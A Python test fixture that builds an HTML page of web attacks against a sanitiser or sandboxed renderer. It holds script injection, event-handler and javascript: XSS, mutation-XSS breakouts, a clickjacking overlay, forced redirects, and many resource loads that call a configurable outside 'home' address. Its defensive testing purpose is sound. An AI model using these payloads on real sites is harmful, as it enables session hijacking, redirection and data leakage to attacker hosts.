"""A page full of attacks. Each calls home under its own path when it works."""


def attacks(home: str) -> str:
    """Return the page; `home` is the address that attacks call."""
    return f"""<!DOCTYPE html>
<html onload="top.attacked = 1" manifest="{home}/manifest">
<head><title>Attack &lt;/title>&lt;script>window.attacked = 29&lt;/script></title>
<base href="{home}/base/" target="_top">
<meta http-equiv="refresh" content="0; url={home}/refresh">
<meta http-equiv="Content-Security-Policy" content="default-src *">
<link rel="stylesheet" href="{home}/sheet"><link rel="preload" as="image" href="{home}/preload">
<link rel="prefetch" href="{home}/prefetch"><link rel="preconnect" href="{home}"><link rel="icon" href="{home}/icon">
<style>
@import url({home}/import); @import "{home}/import-string";
@font-face {{ font-family: f; src: url({home}/font) }}
body {{ background: url("{home}/background"); font-family: f }}
li::before {{ content: url({home}/content) }}
* {{ pointer-events: none; }}
.record {{ cursor: url({home}/cursor), auto; background: image-set("{home}/image-set" 1x) }}
a[data-x^="a"] {{ background: u\\72l({home}/escaped) }}
.cover {{ position: fixed; inset: 0; z-index: 2147483647; background: red; height: 100vh }}
:root {{ --u: url({home}/variable) }} p {{ background-image: var(--u) }}
</style>
<script>top.attacked = 2; fetch("{home}/fetch"); top.location = "{home}/top"; parent.document.title = "owned"</script>
<script src="{home}/script"></script>
</head>
<body onload="parent.attacked = 3" onpageshow="parent.attacked = 4" background="{home}/body-background">
<ul class="menu">{"".join(f'<li class="entry"><a href="/menu/{n}">Menu {n}</a></li>' for n in range(8))}</ul>
<section class="results">
{"".join(f'<div class="record"><h2>Record {n}</h2><p class="text">Text {n}</p></div>' for n in range(20))}
</section>
<div class="cover" onmousemove="parent.attacked = 5">cover</div>
<img src=x onerror="top.attacked = 6"><img src="{home}/img" srcset="{home}/srcset 2x" lowsrc="{home}/lowsrc">
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>top.attacked=7</script></svg>">
<picture><source srcset="{home}/picture"><img></picture>
<svg onload="top.attacked = 8"><script>top.attacked = 9</script><image href="{home}/svg-image" width="9" height="9"/>
<use href="{home}/use#x"/><a href="javascript:top.attacked = 10"><text y="9">x</text></a>
<animate attributeName="href" to="javascript:top.attacked = 11" begin="0s"/><set attributeName="onload" to="x"/>
<foreignObject><iframe src="{home}/foreign"></iframe></foreignObject>
<rect width="5" height="5" fill="url({home}/fill)" filter="url({home}/filter#f)"/></svg>
<math><maction actiontype="statusline" xlink:href="javascript:top.attacked = 12">m</maction></math>
<a href="javascript:top.attacked = 13">js</a> <a href="{home}/link" target="_top" ping="{home}/ping" autofocus>link</a>
<a href="data:text/html,<script>top.attacked = 14</script>" target="_blank">data</a> <a href="#x" download>d</a>
<form id="f" action="{home}/form" method="post" target="_top"><input name="a" autofocus onfocus="top.attacked = 15">
<button formaction="{home}/formaction">Send</button><input type="image" src="{home}/input-image"></form>
<iframe src="{home}/iframe"></iframe><iframe srcdoc="<script>top.attacked = 16; parent.parent.attacked = 17</script>">
</iframe><frame src="{home}/frame"><object data="{home}/object"><param name="movie" value="{home}/param"></object>
<embed src="{home}/embed"><video src="{home}/video" poster="{home}/poster" autoplay onerror="top.attacked = 18">
<source src="{home}/source"><track src="{home}/track" default></video><audio src="{home}/audio" autoplay></audio>
<applet code="x" archive="{home}/applet"></applet><bgsound src="{home}/bgsound">
<table background="{home}/table"><tr><td background="{home}/cell">c</td></tr></table>
<details open ontoggle="top.attacked = 19"><summary>s</summary>d</details>
<template shadowrootmode="open"><script>top.attacked = 20</script><img src="{home}/shadow"></template>
<noscript><img src="{home}/noscript"><meta http-equiv="refresh" content="0; url={home}/noscript-refresh"></noscript>
<p style="background: url({home}/style); animation: x 1s" onanimationstart="top.attacked = 21">styled</p>
<marquee onstart="top.attacked = 22">m</marquee><input type="text" list="l" onblur="top.attacked = 23" value="v">
<xmp></xmp><img title="</xmp><img src=x onerror=top.attacked=24>"><noembed></noembed>
<a title="</script><script>top.attacked = 25</script>" data-tps-n="0" data-tps-region="9">quote</a>
<tps-text data-tps-n="1">forged</tps-text><p id="tps-data">forged</p><p class="box chosen" id="panes">forged</p>
<svg><style>&lt;/style&gt;&lt;img src=x onerror=top.attacked=26&gt;</style></svg>
<!-- --!><img src=x onerror="top.attacked = 27"> -->
<plaintext><script>top.attacked = 28</script>
"""
